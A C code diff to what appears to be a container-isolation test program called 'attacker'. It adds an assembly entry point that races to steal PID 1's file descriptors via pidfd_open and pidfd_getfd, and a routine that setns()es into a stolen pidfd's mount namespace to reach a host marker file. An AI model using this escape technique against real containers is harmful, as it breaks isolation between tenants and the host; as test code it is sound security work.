@@ -41,6 +41,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <inttypes.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdarg.h>
 #include <stdint.h>
@@ -111,6 +112,9 @@ struct counters {
 	long root_foreign;    /* /proc/PID/root not our "/" */
 	long foreign_dir;     /* a directory descriptor our root does not
 			       * show (a host directory) */
+	long pidfd_taken;     /* pidfds taken with pidfd_getfd */
+	long marker_via_pidfd;/* host marker opened after setns() into the
+			       * mount namespace of such a pidfd's process */
 	long ptrace;          /* PTRACE_SEIZE succeeded */
 	/* Reopening a held executable for writing, at the end: */
 	long exe_writable;    /* O_WRONLY open succeeded (no write seal) */
@@ -126,10 +130,12 @@ struct counters {
 };
 
 static struct counters stats[PHASES];
-_Static_assert(sizeof(struct counters) == 29 * sizeof(long), "write_report names every counter");
+_Static_assert(sizeof(struct counters) == 31 * sizeof(long), "write_report names every counter");
 static char notes[PHASES][MAX_NOTES][160];
 static int note_count[PHASES];
 static int phase, phase_acked;
+/* What the entry point got (pidfd_open, pidfd_getfd of fd 3), reported. */
+static int early_pidfd_result, early_fd3_result;
 static pid_t self;
 
 static uint64_t canary_addr, canary_value;
@@ -375,6 +381,43 @@ static void note_parent(int fd, const char *target)
 	note("%s/.. lists %d entries:%s ...", target, count, names);
 }
 
+/* A pidfd we took: whose, and does its mount namespace lead to the host?
+ * Tried in a child, which setns()es into it and opens the marker by its
+ * absolute path. */
+static void try_pidfd(int fd)
+{
+	struct counters *s = &stats[phase];
+	char path[64], line[128], absolute[300];
+	int status, target = -1;
+	pid_t child;
+	FILE *f;
+
+	s->pidfd_taken++;
+	snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
+	f = fopen(path, "re");
+	while (f && fgets(line, sizeof(line), f))
+		if (sscanf(line, "Pid: %d", &target) == 1)
+			break;
+	if (f)
+		fclose(f);
+	note("took a pidfd of pid %d (0: outside our pid namespace)", target);
+	snprintf(absolute, sizeof(absolute), "/%s", marker);
+	child = fork();
+	if (child == 0) {
+		if (setns(fd, CLONE_NEWNS) != 0)
+			_exit(1);
+		_exit(open(absolute, O_RDONLY | O_CLOEXEC) >= 0 ? 0 : 2);
+	}
+	if (child > 0 && waitpid(child, &status, 0) == child && WIFEXITED(status)) {
+		if (WEXITSTATUS(status) == 0) {
+			s->marker_via_pidfd++;
+			note("setns through a pidfd of pid %d reached the host marker", target);
+		} else if (WEXITSTATUS(status) == 2) {
+			note("setns through a pidfd of pid %d worked (marker not there)", target);
+		}
+	}
+}
+
 /* A descriptor we hold (from pidfd_getfd): the secret, or a way to the
  * host marker? */
 static void inspect_taken(int fd)
@@ -398,6 +441,8 @@ static void inspect_taken(int fd)
 		note("getfd took host directory %s", target);
 		note_parent(fd, target);
 	}
+	if (strstr(target, "pidfd"))
+		try_pidfd(fd);
 	m = openat(fd, marker, O_RDONLY | O_CLOEXEC);
 	if (m >= 0) {
 		s->marker_via_getfd++;
@@ -635,7 +680,8 @@ static void write_report(void)
 		"attempts", "sightings", "mem_open", "mem_read_match", "mem_write", "exe_fds",
 		"exe_caller", "exe_monitor", "exe_ro_mount", "fd_lists", "fd_targets",
 		"secret_targets", "marker_via_fd", "getfd", "getfd_secret", "marker_via_getfd",
-		"marker_via_root", "root_foreign", "foreign_dir", "ptrace", "exe_writable", "exe_sealed",
+		"marker_via_root", "root_foreign", "foreign_dir", "pidfd_taken", "marker_via_pidfd",
+		"ptrace", "exe_writable", "exe_sealed",
 		"exe_erofs", "exe_eperm", "exe_busy", "exe_other", "exe_unlocked",
 		"exe_unlocked_writable", "exe_unlocked_busy",
 	};
@@ -649,7 +695,8 @@ static void write_report(void)
 	if (f)
 		fclose(f);
 	caps[strcspn(caps, "\n")] = 0;
-	len += snprintf(out + len, sizeof(out) - len, "caps=%s\n", caps + (caps[0] ? 8 : 0));
+	len += snprintf(out + len, sizeof(out) - len, "caps=%s early_pidfd=%d early_getfd3=%s\n",
+			caps + (caps[0] ? 8 : 0), early_pidfd_result, strerror(-early_fd3_result));
 	for (int p = 0; p < PHASES; p++) {
 		long *v = (long *)&stats[p];
 
@@ -689,11 +736,75 @@ static void watch_attaches(void)
 	}
 }
 
+/* Descriptors of PID 1 taken the moment we run: our reaper closes its
+ * descriptors only once it saw our exec succeed, so the attacker races it
+ * from its very first instruction. On x86_64 the test links us with
+ * -Wl,-e,attacker_entry: raw syscalls before libc's start-up code, then
+ * libc's _start with the stack as the kernel left it; elsewhere it is done
+ * first thing in main. early_fds[n] is what pidfd_getfd returned for n. */
+int early_pidfd = -1, early_fds[64];
+
+#ifdef __x86_64__
+__asm__(".text\n"
+	".globl attacker_entry\n"
+	".type attacker_entry, @function\n"
+	"attacker_entry:\n"
+	"	mov $434, %eax\n" /* pidfd_open(1, 0) */
+	"	mov $1, %edi\n"
+	"	xor %esi, %esi\n"
+	"	syscall\n"
+	"	mov %eax, early_pidfd(%rip)\n"
+	"	test %eax, %eax\n"
+	"	js 2f\n"
+	"	mov %eax, %r12d\n"
+	"	mov $3, %r13d\n"
+	"1:	mov $438, %eax\n" /* pidfd_getfd(pidfd, n, 0) */
+	"	mov %r12d, %edi\n"
+	"	mov %r13d, %esi\n"
+	"	xor %edx, %edx\n"
+	"	syscall\n"
+	"	lea early_fds(%rip), %rcx\n"
+	"	mov %eax, (%rcx,%r13,4)\n"
+	"	inc %r13d\n"
+	"	cmp $64, %r13d\n"
+	"	jl 1b\n"
+	"2:	xor %edx, %edx\n"
+	"	jmp _start\n");
+#endif
+
+static void grab_reaper_fds(void)
+{
+	if (early_pidfd >= 0)
+		return; /* done at the entry point */
+	early_pidfd = (int)syscall(SYS_pidfd_open, 1, 0);
+	for (int num = 3; early_pidfd >= 0 && num < 64; num++)
+		early_fds[num] = (int)syscall(SYS_pidfd_getfd, early_pidfd, num, 0);
+}
+
+/* What grab_reaper_fds took: inspected (app mode) or just closed. */
+static void release_early(int inspect)
+{
+	early_pidfd_result = early_pidfd;
+	early_fd3_result = early_fds[3];
+	if (early_pidfd < 0)
+		return;
+	for (int num = 3; num < 64; num++) {
+		if (early_fds[num] < 0)
+			continue;
+		if (inspect)
+			inspect_taken(early_fds[num]);
+		close(early_fds[num]);
+	}
+	close(early_pidfd);
+	early_pidfd = -1;
+}
+
 static void app_mode(void)
 {
 	struct timespec t = {0, 20 * 1000 * 1000};
 
 	read_phase();
+	release_early(1);
 	/* Our reaper is PID 1: at once (it might still be setting itself up),
 	 * then a few more times. */
 	for (int i = 0; i < 10; i++) {
@@ -705,13 +816,17 @@ static void app_mode(void)
 
 int main(int argc, char **argv)
 {
-	self = getpid();
-	stat("/bin/busybox", &busybox_st);
-	stat("/proc/self/exe", &attacker_st);
 	if (argc < 2) {
 		fprintf(stderr, "usage: attacker --attach|--app\n");
 		return 2;
 	}
+	if (!strcmp(argv[1], "--app"))
+		grab_reaper_fds();
+	else
+		release_early(0); /* the container's own init: nothing to see */
+	self = getpid();
+	stat("/bin/busybox", &busybox_st);
+	stat("/proc/self/exe", &attacker_st);
 	load_config();
 	if (!strcmp(argv[1], "--app")) {
 		alarm(30);
